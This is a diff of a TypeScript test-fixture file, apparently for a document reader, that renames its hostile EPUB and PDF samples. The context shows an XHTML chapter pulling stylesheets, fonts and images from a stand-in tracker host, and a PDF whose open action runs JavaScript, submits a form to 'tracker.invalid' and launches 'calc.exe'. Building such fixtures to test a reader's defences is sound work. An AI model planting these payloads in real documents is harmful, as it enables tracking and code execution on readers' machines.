@@ -1,7 +1,7 @@
-/** Files with traps in them, made here: none of them is a book that anybody would want. */
+/** Hostile books, made here: an EPUB chapter and a PDF that try to run code, to call out and to deceive. */
 
 /** A chapter that tries everything at once: to run, to call out, to leave, to deceive. */
-export const trappedChapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>
+export const hostileChapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>
 <link rel="stylesheet" href="https://tracker.invalid/s.css"/><link rel="prefetch" href="https://tracker.invalid/pre"/>
 <style>@import url("https://tracker.invalid/i.css"); body { background: url("https://tracker.invalid/b.png") }
 @font-face { font-family: x; src: url("https://tracker.invalid/f.woff2") } p { font-family: x; cursor: url("https://tracker.invalid/c.cur"), auto }</style>
@@ -35,7 +35,7 @@ function pdfOf(objects: readonly string[]): Buffer {
 const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
 
 /** A PDF that does things when it is opened, when its page is, and when its links are pressed; with code in its font. */
-export const trappedPdf = (): Buffer =>
+export const hostilePdf = (): Buffer =>
   pdfOf([
     '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://tracker.invalid/form")) /Next [<< /S /Launch /F (calc.exe) >> << /S /URI /URI (https://tracker.invalid/open) >>] >> /AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert("named")) >>] >> >> >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
